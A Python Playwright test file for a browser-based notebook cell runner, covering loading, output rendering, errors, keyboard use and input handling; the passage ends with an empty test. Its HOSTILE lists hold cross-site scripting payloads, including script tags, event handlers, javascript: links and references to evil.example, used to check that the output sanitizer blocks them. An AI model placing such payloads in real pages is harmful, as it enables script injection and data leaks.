"""Runs cells in the pages, with a double of the engine that says what a cell's comments tell it to. A reader does it
with the mouse, a keyboard or a phone. reach_test.py has the engine itself.

Needs Chromium or Chrome, as browser_test.py does.
"""

import gzip
import json
import re
import time

import nbformat
import pytest
from axe_playwright_python.sync_playwright import Axe
from browser_test import SHIFT, browser  # noqa: F401, a fixture
from nbconvert import HTMLExporter
from playwright.sync_api import expect

import website
from exporter import config
from lessons import ROOT, find
from samples import code, display, notebook, stream

# The engine's protocol (see site/run/README.md): a line of a cell that begins with //: is a message of its run.
# After {"type": "input"} the double waits for a line, {"type": "loop"} ends with Stop, and {"type": "many"} stands for
# the messages that window.many() gives.
DOUBLE = """
window.UnrollEngine = class {
  constructor(tell) { this.tell = tell; this.posted = window.posted = []; }
  post(message) {
    this.posted.push(message);
    if (message.type === "run") this.run(message);
    if (message.type === "stdin") this.resume?.(message.text);
    if (message.type === "stop" && this.cell) this.end({ stopped: true });
  }
  end(more) {
    const cell = this.cell;
    this.cell = this.resume = null;
    this.tell({ type: "done", cell, ok: false, stopped: false, code: 0, memory: 0, cached: false, seconds: { run: 1.25 }, ...more });
  }
  async run({ cells, cell }) {
    this.cell = cell;
    if (!window.started) for (const [stage, loaded] of [["load", 0], ["load", 15e6], ["start", 30e6], ["ready", 30e6]]) {
      this.tell({ type: "progress", stage, loaded, total: 30e6 });
      await new Promise((done) => setTimeout(done, window.slowly ?? 0));
    }
    window.started = true;
    let more = { ok: true };
    for (const line of cells.at(-1).source.split("\\n").filter((line) => line.startsWith("//:"))) {
      const message = JSON.parse(line.slice(3));
      if (this.cell !== cell) return;
      if (message.type === "loop") return;
      if (message.type === "many") { for (const one of window.many()) this.tell({ ...one, cell }); continue; }
      if (message.type === "file") message.bytes = message.text && new TextEncoder().encode(message.text);
      if (message.type === "input") {
        const text = await new Promise((done) => { this.resume = done; this.tell({ type: "input", cell }); });
        this.tell({ type: "stream", cell, name: "stdout", text: text === null ? "end of file\\n" : `read ${text}` });
        continue;
      }
      if (message.type === "error") { message.places ??= []; message.hint ??= ""; message.details ??= ""; message.problems ??= []; more = { code: message.code ?? 1 }; }
      this.tell({ ...message, cell });
    }
    await new Promise((done) => setTimeout(done));
    if (this.cell === cell) this.end(more);
  }
};
"""

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" id="f" role="img" aria-labelledby="f-t" viewBox="0 0 40 20" width="400" height="200">'
    '<title id="f-t">A line</title><path class="axis" color="#888" fill="none" stroke="currentColor" d="M2 18L38 2"/>'
    '<text x="3" y="9" font-size="4">단어</text></svg>'
)
FIGURE = {"image/svg+xml": SVG, "text/plain": "A line that rises.", "text/csv": 'x,"y, squared"\n1,1\n2,4\n'}


def say(*messages):
    """A cell that gives these."""
    return "\n".join("//:" + json.dumps(m, ensure_ascii=False) for m in messages)


def prints(text, name="stdout"):
    return {"type": "stream", "name": name, "text": text}


def shows(data, id="", **metadata):
    return {"type": "display", "data": data, "metadata": metadata, "id": id, "update": False}


def soon(look, wanted, seconds=10):
    """Looks until it sees what is wanted: the page follows an action when the browser has time."""
    deadline = time.monotonic() + seconds
    while not wanted(seen := look()):
        assert time.monotonic() < deadline, seen
        time.sleep(0.05)
    return seen


class Reader:
    """A tab with a page whose cells run."""

    def __init__(self, context, page):
        self.context, self.tab, self.asked, self.complaints = context, context.new_page(), [], []
        self.tab.on("request", lambda request: self.asked.append(request.url))
        self.tab.on("console", lambda message: self.complaints.append(message.text))
        self.tab.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.tab.goto(page if isinstance(page, str) else page.as_uri())

    def cell(self, number):
        return self.tab.locator("section.cell").nth(number - 1)

    def button(self, number, name):
        return self.cell(number).locator(".bar").get_by_role("button", name=name)

    def run(self, number, timeout=10_000):
        """Runs a cell and returns what it says, and its outputs."""
        self.button(number, "Run cell").click()
        return self.wait(number, timeout)

    def wait(self, number, timeout=10_000):
        expect(self.cell(number).locator(".bar > span")).to_have_text(re.compile("done|error|stopped|exit status"), timeout=timeout)
        return self.cell(number).locator(".bar > span").inner_text(), self.cell(number).locator(".own")

    def edit(self, number, text):
        self.button(number, "Edit cell").click()
        expect(self.cell(number).locator(".cm-content")).to_be_focused()
        self.tab.keyboard.press("Control+a")
        self.tab.keyboard.insert_text(text)

    def source(self, number, *wanted):
        """Waits until the page has this, or one of these, as the text of a cell."""
        soon(lambda: self.tab.evaluate("n => unrollRun.page.cells[n].source", number - 1), lambda text: text in wanted)

    def kept(self, key):
        return self.tab.evaluate("key => localStorage.getItem(key)", key)


@pytest.fixture
def context(browser):  # noqa: F811
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    yield context
    context.close()


@pytest.fixture
def pages(lesson, tmp_path):
    """pages(cells…) makes a site with a lesson of these cells that run on the double, and gives its page."""
    go = tmp_path / "go"
    go.mkdir()
    (go / "engine.js").write_text(DOUBLE)

    def make(*cells, name="01-sample"):
        lesson(name, *cells)
        website.build(find(base=tmp_path / "notebooks", language=None), out=tmp_path / "html", go=go)
        return tmp_path / "html" / name.replace("01-sample", "sample.html")

    return make


@pytest.fixture
def open_page(context, pages):
    """open_page(cells…) opens a lesson of these cells."""
    return lambda *cells: Reader(context, pages("# T", *cells))


# What is loaded


def test_a_page_that_nobody_touches_loads_one_small_script(context, pages):
    it = Reader(context, pages("# T", code(say(prints("1\n"))), code("f()")))
    expect(it.cell(2).get_by_role("button", name="Run cell 2")).to_be_visible()
    assert it.tab.evaluate(SHIFT) < 0.01
    assert [url.rsplit("/", 1)[1] for url in it.asked if not url.startswith("data:")] == ["sample.html", "start.js"]
    small = (ROOT / "site/run/page/start.js").read_bytes()
    assert len(gzip.compress(small, 9)) <= 6000
    it.run(1)
    assert not any("editor.js" in url for url in it.asked)
    it.button(1, "Edit cell").click()
    expect(it.cell(1).locator(".cm-content")).to_be_focused()
    assert any("editor.js" in url for url in it.asked) and it.complaints == []


def test_the_editor_is_small(pages):
    assert (ROOT / "site/run/page/editor.js").stat().st_size <= 300_000


@pytest.fixture
def hosted(context, pages):
    """hosted(lost, cells…) opens a lesson of these cells from a host that lacks the files whose names match lost; to what it lacks
    it answers as answer() says, at first with nothing at all, as without a network."""
    def open_hosted(lost, *cells, answer=lambda route: route.abort()):
        folder = pages("# T", *cells).parent

        def serve(route):
            path = route.request.url.partition("?")[0].removeprefix("http://course.example/")
            if re.search(it.lost, path):
                return it.answer(route)
            route.fulfill(path=folder / path)

        it = Reader.__new__(Reader)
        it.lost, it.answer = lost, answer
        context.route("http://course.example/**", serve)
        it.__init__(context, "http://course.example/sample.html")
        return it

    return open_hosted


def page_for_all(route):
    """Some hosts answer so where there is no such file."""
    route.fulfill(status=200, content_type="text/html", body="<!DOCTYPE html><title>Not here</title>")


@pytest.mark.parametrize("answer", [lambda route: route.abort(), page_for_all], ids=["no network", "a page"])
@pytest.mark.parametrize("name", ["safe", "outputs", "cells", "engine"])
def test_what_cannot_be_loaded_is_said_and_loaded_again(hosted, name, answer):
    it = hosted(f"{name}.js$", code(say(prints("1\n"))), answer=answer)
    it.button(1, "Run cell").click()
    words = f"{name}.js could not be loaded: is the network there? Try again. The file belongs into the folder run beside the pages."
    expect(it.cell(1).locator(".own .first" if name == "engine" else ".bar > span")).to_have_text(words)
    expect(it.tab.locator("#said")).to_contain_text(words)
    it.lost = "^$"
    assert it.run(1)[0].startswith("done")


def test_a_part_of_go_that_is_missing_asks_for_the_network_where_there_is_one(hosted, context, pages):
    lost = code(say({"type": "error", "kind": "load", "text": "http://course.example/run/toolchain-0.js could not be loaded"}))
    it = hosted("^$", lost)
    _, own = it.run(1)
    expect(own.locator(".wrong > *")).to_have_text(["http://course.example/run/toolchain-0.js could not be loaded", "Is the network there? Try again."])
    it.tab.goto(pages("# T", lost).as_uri())
    _, own = it.run(1)
    expect(own.locator(".hint")).to_have_text("Copy the folder run again, whole, to beside the pages.")


def test_an_editor_that_cannot_be_loaded_is_said_and_the_text_shows(hosted):
    it = hosted("^$", code("one()"), code("two()"))
    it.edit(1, "mine()\n<b>")
    soon(lambda: it.kept("unroll-cells:sample"), lambda text: text and "mine" in text)
    it.lost = "editor.js"
    it.tab.reload()
    words = "editor.js could not be loaded: is the network there?"
    expect(it.cell(1).locator(".bar > span")).to_contain_text(words)
    expect(it.cell(1).locator("pre")).to_have_text("mine()\n<b>\n")  # what Run runs
    it.tab.evaluate("document.querySelector('#said').textContent = ''")
    it.button(2, "Edit cell").click()
    expect(it.cell(2).locator(".bar > span")).to_contain_text(words)
    expect(it.tab.locator("#said")).to_contain_text(words)
    it.button(1, "Reset").click()
    expect(it.cell(1).locator("pre span")).not_to_have_count(0)  # with its colours
    expect(it.cell(1).locator("pre")).to_have_text("one()\n")
    it.lost = "^$"
    it.button(1, "Edit cell").click()
    expect(it.cell(1).locator(".cm-content")).to_have_text("one()")
    assert not any("Uncaught" in text or text.startswith("Error") for text in it.complaints)


def test_from_disk_a_file_is_missing_or_damaged(context, pages):
    page = pages("# T", code(say(prints("1\n"))))
    script = page.with_name("run") / "outputs.js"
    text = script.read_text()
    for damage in (script.unlink, lambda: script.write_text("")):
        damage()
        it = Reader(context, page)
        it.button(1, "Run cell").click()
        expect(it.cell(1).locator(".bar > span")).to_have_text("outputs.js is missing or damaged: it belongs into the folder run beside the pages.")
    script.write_text(text)
    assert it.run(1)[0].startswith("done")


def test_who_only_types_loads_no_engine(open_page):
    it = open_page(code("one()"))
    it.edit(1, "two()")
    soon(lambda: it.kept("unroll-cells:sample"), lambda text: text and "two()" in text)
    assert not any("engine.js" in url for url in it.asked)
    it.run(1)
    assert any("engine.js" in url for url in it.asked)


def test_nothing_of_it_shows_without_scripts_or_on_paper(browser, context, pages):  # noqa: F811
    page = pages("# T", code(say(prints("1\n")), [stream("1\n")]))
    still = browser.new_context(java_script_enabled=False)
    tab = still.new_page()
    tab.goto(page.as_uri())
    expect(tab.locator("button:visible")).to_have_count(0)
    assert tab.evaluate("document.querySelector('.highlight').offsetHeight - document.querySelector('.highlight pre').offsetHeight") <= 2
    still.close()
    it = Reader(context, page)
    it.run(1)
    it.tab.emulate_media(media="print")
    expect(it.cell(1).locator(".bar")).to_be_hidden()
    expect(it.tab.locator(".bench")).to_be_hidden()
    expect(it.cell(1).locator(".own")).to_have_text("1")
    it.tab.emulate_media(media="screen")
    it.edit(1, "two()")
    it.tab.emulate_media(media="print")
    expect(it.cell(1).locator(".bar > span")).to_contain_text("edited since it ran")  # else paper would show another cell's output
    expect(it.cell(1).locator("button:visible")).to_have_count(0)


def test_the_cover_has_a_cell_to_try(context, pages):
    page = pages("# T", code('import "fmt"'), code("other()"), "**Predict** it.", code(say(prints("1\n")), [stream("1\n")], tags=["try"]))
    it = Reader(context, page.with_name("index.html"))
    expect(it.tab.locator("section.cell")).to_have_count(2)
    expect(it.cell(2).locator(".output")).to_be_visible()
    assert it.run(2)[0].endswith("the same as on the page")
    run = [m for m in it.tab.evaluate("posted") if m["type"] == "run"][-1]
    assert run["cells"][0]["source"] == 'import "fmt"' and len(run["cells"]) == 2
    it.tab.locator(".bench summary").click()
    expect(it.tab.get_by_role("button", name="Run all cells")).to_be_visible()
    expect(it.tab.get_by_role("button", name="Download my notebook")).to_have_count(0)
    assert it.complaints == []


def test_without_the_engine_no_page_runs(lesson, tmp_path):
    lesson("01-sample", "# T", code("f()", tags=["try"]))
    website.build(find(base=tmp_path / "notebooks"), out=tmp_path / "html")
    assert not (tmp_path / "html/run").exists()
    for name in ("sample", "index"):
        page = (tmp_path / f"html/{name}.html").read_text()
        assert "start.js" not in page and "worker-src" not in page and "wasm" not in page.partition("</head>")[0]


def test_the_page_that_jupyterlab_exports_runs_nothing():
    html, _ = HTMLExporter(config=config(strict=False)).from_notebook_node(notebook("# T", code("f()")))
    assert "start.js" not in html and "worker-src" not in html and "unrollRun" not in html


def test_the_policy_wants_no_more_than_webassembly_and_a_worker(pages):
    policy = re.search(r'content="(default-src [^"]*)"', pages("# T", code("f()")).read_text())[1]
    assert policy.startswith("default-src 'none';") and "worker-src blob:;" in policy and "connect-src" not in policy
    scripts = re.search(r"script-src ([^;]*)", policy)[1].split()
    assert [s for s in scripts if not s.startswith("'sha256-")] == ["'self'", "file:", "'wasm-unsafe-eval'"]


# Outputs


def test_text_streams_as_in_a_terminal(open_page):
    it = open_page(code(say(prints("10 %\r20"), prints(" %\r100 %\nnext\x1b[31m red\x1b[0m\n"), prints("long\rX\n<b>"))))
    said, own = it.run(1)
    assert own.locator("pre").inner_text() == "100 %\nnext red\nXong\n<b>"
    assert own.locator(".ansi-red-fg").inner_text() == " red"
    assert said.startswith("done in 1.3 s") or said.startswith("done in 1.2 s")


def test_colours_end_where_a_terminals_do(open_page):
    it = open_page(code(say(prints("\x1b[1;31mred\x1b[32mgreen\x1b[39mbold\x1b[22mplain\x1b[94mblue\x1b[mplain\n"))))
    _, own = it.run(1)
    spans = own.locator("pre > span[class]").evaluate_all("all => all.map((e) => [e.className, e.textContent])")
    assert spans == [["ansi-bold ansi-red-fg", "red"], ["ansi-bold ansi-green-fg", "green"], ["ansi-bold", "bold"], ["ansi-blue-intense-fg", "blue"]]


@pytest.mark.parametrize("text, shown", [
    ("abc\rX", "Xbc"), ("abc\rX\x1b[K", "X"), ("abc\r\x1b[KX", "X"), ("abcdef\rXY\rZ", "ZYcdef"), ("abc\r\n", "abc\n"), ("abc\rXYZW\rV", "VYZW"),
    ("a\x1b]0;a window\x07b\x1b]8;;https://go.dev\x1b\\c", "abc"),
])  # fmt: skip
def test_a_return_goes_back_in_the_line(open_page, text, shown):
    it = open_page(code(say(prints(text))), code(say(*map(prints, text))))
    for cell in (1, 2):  # in one piece, and letter by letter
        _, own = it.run(cell)
        assert own.locator("pre").text_content() == shown


def test_a_figure_comes_as_the_page_has_it(open_page):
    it = open_page(code(say(shows(FIGURE)), [display(FIGURE)]))
    said, own = it.run(1)
    assert said.endswith("the same as on the page")
    svg = own.locator("figure svg")
    assert svg.bounding_box()["width"] > 100
    expect(it.tab.get_by_role("img", name="A line")).to_have_count(1)  # the page's own is put away
    assert own.locator("text").get_attribute("lang") == "ko"
    own.locator(".numbers > summary").click()
    expect(own.locator("td").last).to_be_visible()
    assert own.locator("th").all_inner_texts() == ["x", "y, squared"] and own.locator("td").all_inner_texts() == ["1", "1", "2", "4"]


def test_a_line_of_progress_replaces_itself(open_page):
    it = open_page(code(say(*[shows({"text/plain": f"epoch {i}"}, id="p") for i in range(5)], prints("end\n"))))
    _, own = it.run(1)
    expect(own.locator(".output")).to_have_text(["epoch 4", "end\n"])


def test_an_endless_output_keeps_its_end(open_page):
    it = open_page(code("\n".join([say(prints("x" * 99 + "\n"))] * 6000 + [say(prints("last\n"))])))
    _, own = it.run(1, 60_000)
    assert own.evaluate("e => e.textContent.length") < 900_000 and own.inner_text().endswith("last\n")
    assert "not kept" in own.locator("pre").get_attribute("data-cut")


def test_a_line_that_is_too_long_keeps_its_end_and_says_so(open_page):
    it = open_page(code(say({"type": "many"})))
    it.tab.evaluate("""() => { window.many = () => ["above\\n", "begin" + "x".repeat(250_000), "x".repeat(50_000) + "end"].map((text) => ({ type: "stream", name: "stdout", text })); }""")
    _, own = it.run(1)
    text = own.locator("pre").text_content()
    assert len(text) == 200_000 and text.endswith("end") and "begin" not in text
    assert own.locator("pre").get_attribute("data-cut") == "… 100,014 characters before this are not kept"


def test_figures_that_are_left_out_are_counted(open_page):
    it = open_page(code(say({"type": "many"})))
    it.tab.evaluate("() => { window.many = () => Array.from({ length: 1520 }, () => ({ type: 'display', id: '', metadata: {}, data: { 'text/plain': 'a table' } })); }")
    _, own = it.run(1)
    expect(own.locator(".output")).to_have_count(500)
    expect(own.locator(".note")).to_have_text("These are too many outputs for the page. Figures that are left out: 1,020.")


@pytest.mark.parametrize("data", [{}, None, {"data": {}}, {"data": None}])
def test_what_has_no_data_is_left_out(open_page, data):
    it = open_page(code(say({"type": "display", "id": "", **(data or {})}, prints("after\n"))))
    _, own = it.run(1)
    expect(own).to_have_text("after\n")
    assert it.complaints == []


HOSTILE = [
    "<script>window.caught = 1</script>",
    '<img src="x" onerror="window.caught = 1"><img src="https://evil.example/x.png">',
    '<svg onload="window.caught = 1"><script>window.caught = 1</script><a href="javascript:window.caught=1"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.caught=1"></style></mglyph></table></mtext></math>',
    '<a href="javascript:window.caught=1" id="search" class="skip">press</a>',
    '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div><style>body{display:none}</style>',
    '<form action="//evil.example"><input name=x><button>send</button></form><iframe srcdoc="<script>parent.caught=1</script>"></iframe>',
    '<template><img src=x onerror="window.caught=1"></template><noscript><p title="</noscript><img src=x onerror=window.caught=1>"></noscript>',
]
HOSTILE_SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.caught=1"><script>window.caught=1</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="window.caught=1"/></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/x"/><use href="https://evil.example/x#y"/><set attributeName="onload" to="window.caught=1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" style="position:fixed;inset:0" id="said"><rect fill="url(https://evil.example/x)" style="fill:url(https://evil.example/y)"/><style>*{display:none}</style></svg>',
    '<!DOCTYPE svg [<!ENTITY x "<script>window.caught=1</script>">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
]


@pytest.mark.parametrize("data", [{"text/html": h} for h in HOSTILE] + [{"image/svg+xml": s, "text/plain": "a figure"} for s in HOSTILE_SVG])
def test_what_a_cell_shows_brings_nothing_that_runs(open_page, data):
    it = open_page(code(say(shows(data), prints("after\n"))))
    _, own = it.run(1)
    for link in own.locator("a").all():
        link.click()
    it.tab.wait_for_timeout(200)
    assert it.tab.evaluate("window.caught") is None
    assert not any("evil" in url for url in it.asked)
    bad = own.evaluate(
        "e => [...e.querySelectorAll('*')].filter((x) => /^(script|style|iframe|form|input|foreignObject|image|use|set|template|math)$/i.test(x.localName)"
        " || [...x.attributes].some((a) => /^on|javascript:|evil/i.test(a.name + a.value) || a.name === 'id' && !a.value.startsWith('own-')"
        " || a.name === 'style' && /position|url/.test(a.value))).map((x) => x.outerHTML)"
    )
    assert bad == []
    assert "after" in own.inner_text() and it.tab.locator("body").is_visible()


# More than a page can show, as JavaScript that makes messages.
TOO_MUCH = {
    "deep SVG": """() => show({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${"<g>".repeat(1e5)}${"</g>".repeat(1e5)}</svg>` })""",
    "deeper than it may be": """() => show({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${"<g>".repeat(1000)}${"</g>".repeat(1000)}</svg>` })""",
    "deep HTML": """() => show({ "text/html": "<div>".repeat(1e5) + "x" })""",
    "deep unknown HTML": """() => show({ "text/html": "<b><section>".repeat(1e5) + "x" })""",
    "many elements": """() => show({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${"<g/>".repeat(1e5)}</svg>` })""",
    "a long attribute": """() => show({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg"><path d="${"M0 0L9 9".repeat(4e6)}"/></svg>` })""",
    "a long style": """() => show({ "text/html": `<p style="${"color:red;".repeat(1e6)}">x</p>` })""",
    "many styles": """() => show({ "text/html": `<p style="${"color:red;".repeat(300)}">x</p>`.repeat(1200) })""",
    "a long table": """() => show({ "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"/>', "text/csv": "a,b\\n" + "1,2\\n".repeat(2e5) })""",
    "a long word of a table": """() => show({ "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"/>', "text/csv": `a\\n"${'""'.repeat(4e5)}"` })""",
    "many colours": """() => [..."x".repeat(10)].map(() => ({ type: "stream", name: "stdout", text: "\\x1b[1mx".repeat(2e4) }))""",
    "many returns": """() => [{ type: "stream", name: "stdout", text: "x".repeat(2e5) + "\\ra".repeat(1e5) }]""",
}


@pytest.mark.parametrize("kind", TOO_MUCH)
def test_the_page_bears_what_is_too_much(open_page, kind):
    it = open_page(code(say({"type": "many"})), code(say(prints("after\n"))))
    it.tab.evaluate(f"() => {{ const show = (data) => [{{ type: 'display', id: '', metadata: {{}}, data }}]; window.many = {TOO_MUCH[kind]}; }}")
    said, own = it.run(1, 60_000)
    assert said.startswith("done") and own.evaluate("e => e.querySelectorAll('*').length") < 50_000
    if kind in ("deep SVG", "deeper than it may be", "many elements", "a long attribute", "a long style"):
        expect(own).to_contain_text("too large for the page: it has")
    assert it.run(2)[0].startswith("done")
    expect(it.cell(2).locator(".own")).to_have_text("after\n")
    assert it.complaints == []


# Errors


def test_an_error_says_first_where(open_page):
    hint = "It is in package fmt: write `fmt.x`."
    error = {
        "type": "error", "kind": "compile", "text": "Cell c1, line 3: undefined: x", "hint": hint, "details": "line 3: undefined: x\nline 4: undefined: y",
        "problems": [{"cell": "c1", "line": 3, "code": "b := x", "message": "undefined: x", "hint": hint}, {"cell": "", "line": 0, "code": "", "message": "more", "hint": hint}],
        "calls": [{"cell": "c2", "line": 1, "code": "f()"}], "places": [],
    }  # fmt: skip
    it = open_page(code("%%\n" + "a := 1\nb := x\n" + say(error)), code(say(prints("never\n"))))
    said, own = it.run(1)
    assert said == "error"
    expect(it.tab.locator("#said")).to_have_text("Error. Cell 1, line 3: undefined: x")
    expect(own.locator(".wrong > :not(details)")).to_have_text(["Cell 1, line 3: undefined: x", "b := x", "more", "Called from cell 2, line 1", "f()", "It is in package fmt: write fmt.x."])
    expect(own.locator(".hint code")).to_have_text("fmt.x")
    expect(own.locator("details pre")).to_be_hidden()
    own.get_by_role("button", name="Cell 1, line 3").click()
    expect(it.cell(1).locator(".cm-content")).to_be_focused()
    it.tab.keyboard.type("Z")
    expect(it.cell(1).locator(".cm-line").nth(2)).to_have_text("Zb := x")


def test_each_error_has_its_hint_beside_it(open_page):
    problems = [{"cell": "c1", "line": n, "code": f"line {n}", "message": f"m{n}", "hint": hint} for n, hint in enumerate(["A.", "B.", "B.", ""], 1)]
    it = open_page(code(say({"type": "error", "kind": "compile", "text": "", "problems": problems})))
    _, own = it.run(1)
    lines = ["Cell 1, line 1: m1", "line 1", "A.", "Cell 1, line 2: m2", "line 2", "Cell 1, line 3: m3", "line 3", "B.", "Cell 1, line 4: m4", "line 4"]
    expect(own.locator(".wrong > *")).to_have_text(lines)


@pytest.mark.parametrize("details", ["", "Go's words"])
def test_a_long_error_is_cut_and_whole_in_the_details(open_page, details):
    it = open_page(code(say({"type": "error", "kind": "panic", "text": "Cell c1, line 1: panic: " + "x" * 100_000, "details": details})))
    _, own = it.run(1)
    first = own.locator(".first").text_content()
    assert first.startswith("Cell 1, line 1: panic: x") and first.endswith("x…") and len(first) <= 501
    assert len(it.tab.locator("#said").text_content()) < 600
    assert "x" * 100_000 in own.locator("details pre").text_content() and own.locator("details pre").text_content().endswith(details)


def test_an_error_in_another_cell_names_it_by_its_number(open_page):
    other = {"type": "note", "text": "Cell c1 does not compile, and was left out."}
    error = {"type": "error", "kind": "panic", "text": "Cell c1, line 2: panic: x", "details": "panic: x\n\tcell c1, line 2", "hint": "셀 c1에서 고치세요."}
    it = open_page(code("one()\ntwo()"), code(say(other, error)))
    _, own = it.run(2)
    assert own.locator(".note").inner_text() == "Cell 1 does not compile, and was left out."
    assert own.locator(".first").inner_text() == "Cell 1, line 2: panic: x" and "cell 1, line 2" in own.locator("details pre").text_content()
    assert own.locator(".hint").inner_text() == "셀 1에서 고치세요."
    own.get_by_role("button", name="Cell 1, line 2").click()
    expect(it.cell(1).locator(".cm-content")).to_be_focused()
    it.tab.keyboard.type("Z")
    it.source(1, "one()\nZtwo()")


def test_a_panics_trace_is_folded(open_page):
    trace = "panic: runtime error: index out of range [5]\n\ngoroutine 1 [running]:\nmain.f()\n"
    it = open_page(code(say(prints("so far\n"), prints("warning\n" + trace, "stderr"),
                            {"type": "error", "kind": "panic", "text": "line 3: panic: index out of range", "details": trace})))  # fmt: skip
    _, own = it.run(1)
    expect(own.locator(":scope > .output").first).to_have_text("so far\n")
    expect(own.locator(":scope > pre.error")).to_have_text("warning\n")
    expect(own.locator("details pre")).to_have_text(trace)
    expect(own.locator("details pre")).to_be_hidden()


def test_the_engine_is_missing(open_page, tmp_path):
    it = open_page(code("f()"))
    (tmp_path / "html/run/engine.js").unlink()
    said, own = it.run(1)
    assert said == "error" and "engine.js is missing" in own.inner_text()
    (tmp_path / "html/run/engine.js").write_text(DOUBLE)  # and it runs when it is there
    assert it.run(1)[0].startswith("done")


def test_what_follows_an_error_does_not_run(open_page):
    it = open_page(code(say(prints("1\n"))), code(say({"type": "error", "kind": "exit", "text": "exit status 3", "code": 3})), code(say(prints("3\n"))), code(say(prints("4\n"))))
    it.run(4)
    it.button(4, "Run all above").click()
    assert it.wait(2)[0] == "error"
    expect(it.cell(1).locator(".own")).to_have_text("1\n")
    expect(it.cell(3).locator(".own")).to_have_count(0)
    expect(it.button(3, "Stop")).to_be_hidden()


# Keyboard, input and Stop


def test_a_cell_is_edited_and_run_by_keyboard(open_page):
    it = open_page(code("f()"), code("g()"))
    it.cell(1).locator("pre").focus()
    it.tab.keyboard.press("Enter")
    editor = it.cell(1).locator(".cm-content")
    expect(editor).to_be_focused()
    it.tab.keyboard.press("Control+End")
    it.tab.keyboard.press("Enter")
    it.tab.keyboard.press("Tab")
    it.tab.keyboard.type("h(")
    it.source(1, "f()\n\th()")
    it.tab.keyboard.press("Control+z")
    it.tab.keyboard.press("Control+z")
    it.source(1, "f()", "f()\n", "f()\n\t")
    it.tab.keyboard.press("Control+a")
    it.tab.keyboard.insert_text(say(prints("typed\n")))
    it.tab.keyboard.press("Shift+Enter")
    expect(it.cell(1).locator(".own")).to_have_text("typed\n")
    expect(editor).to_be_focused()
    it.tab.keyboard.press("Control+a")
    it.tab.keyboard.insert_text(say(prints("again\n")))
    it.tab.keyboard.press("Control+Enter")
    expect(it.cell(1).locator(".own")).to_have_text("again\n")
    it.tab.keyboard.press("Escape")
    it.tab.keyboard.press("Tab")
    expect(it.button(1, "Run cell")).to_be_focused()
    it.tab.keyboard.press("Enter")
    it.wait(1)
    assert it.complaints == []


def test_a_click_edits_but_a_selection_does_not(open_page):
    it = open_page(code("first()\nsecond()"))
    pre = it.cell(1).locator("pre")
    box = pre.bounding_box()
    it.tab.mouse.move(box["x"] + 20, box["y"] + 20)
    it.tab.mouse.down()
    it.tab.mouse.move(box["x"] + 70, box["y"] + 20)
    it.tab.mouse.up()
    it.tab.wait_for_timeout(200)
    assert it.cell(1).locator(".cm-content").count() == 0 and it.tab.evaluate("getSelection().toString()")
    it.tab.mouse.click(box["x"] + 300, box["y"] + 45)
    expect(it.cell(1).locator(".cm-content")).to_be_focused()
    it.tab.keyboard.type("!")
    it.source(1, "first()\nsecond()!")


def test_a_program_reads_lines(open_page):
    it = open_page(code(say({"type": "input"}, {"type": "input"})))
    it.button(1, "Run cell").click()
    field = it.cell(1).get_by_label("The program reads a line")
    expect(field).to_be_focused()
    it.tab.keyboard.type("안녕 <b>")
    it.tab.keyboard.press("Enter")
    expect(it.cell(1).get_by_label("The program reads a line")).to_have_value("")
    it.cell(1).get_by_role("button", name="End of input").click()
    _, own = it.wait(1)
    assert own.inner_text().split("\n")[:3] == ["안녕 <b>", "read 안녕 <b>", "end of file"]
    assert [m.get("text") for m in it.tab.evaluate("posted") if m["type"] == "stdin"] == ["안녕 <b>\n", None]


def test_who_types_elsewhere_goes_on_when_a_program_reads(open_page):
    it = open_page(code(say({"type": "input"})), code("two()"))
    it.tab.evaluate("window.slowly = 300")
    it.edit(2, "")
    it.button(1, "Run cell").click()
    it.cell(2).locator(".cm-content").focus()
    expect(it.cell(1).locator(".reads input")).to_be_visible()
    it.tab.keyboard.insert_text("mine")
    expect(it.cell(2).locator(".cm-content")).to_have_text("mine")
    expect(it.tab.locator("#said")).to_have_text("Cell 1 reads a line.")


def test_stop_of_a_cell_that_waits_stops_it_alone(open_page):
    it = open_page(code(say({"type": "input"})), code(say(prints("2\n"))), code(say(prints("3\n"))))
    for cell in (1, 2, 3):
        it.button(cell, "Run cell").click()
    expect(it.cell(2).locator(".bar > span")).to_have_text("waits")
    it.button(2, "Stop").click()
    expect(it.cell(2).locator(".bar > span")).to_have_text("")
    expect(it.button(2, "Run cell")).to_be_focused()
    expect(it.cell(3).locator(".bar > span")).to_have_text("waits")
    it.cell(1).locator(".reads input").fill("x")
    it.tab.keyboard.press("Enter")
    assert it.wait(3)[0].startswith("done") and it.wait(1)[0].startswith("done")
    expect(it.cell(2).locator(".own")).to_have_count(0)


def test_an_error_among_many_cells_is_said_at_the_foot(open_page):
    it = open_page(code("one()"), code(say({"type": "error", "kind": "panic", "text": "no"})), code("three()"), code("four()"))
    it.run(1)
    it.tab.get_by_text("My work").click()
    it.tab.get_by_role("button", name="Run all cells").click()
    expect(it.tab.locator(".bench > p").first).to_have_text("Cell 2 ended with an error; what waited for it did not run.")
    it.tab.locator(".bench > p").first.get_by_role("button", name="Cell 2").click()
    expect(it.cell(2).locator(".cm-content")).to_be_focused()
    it.run(4)
    expect(it.tab.locator(".bench > p").first).to_have_text("Cells run here, in the browser.")


def test_the_focus_is_not_lost_where_the_foot_has_no_stop_any_more(open_page):
    it = open_page(code(say({"type": "loop"})))
    it.button(1, "Run cell").click()
    stop = it.tab.locator(".bench").get_by_role("button", name="Stop", exact=True)
    stop.focus()
    it.tab.keyboard.press("Enter")
    it.wait(1)
    expect(it.tab.get_by_text("My work")).to_be_focused()


def test_who_edits_sees_the_keys(open_page):
    it = open_page(code("one()"), code("two()"))
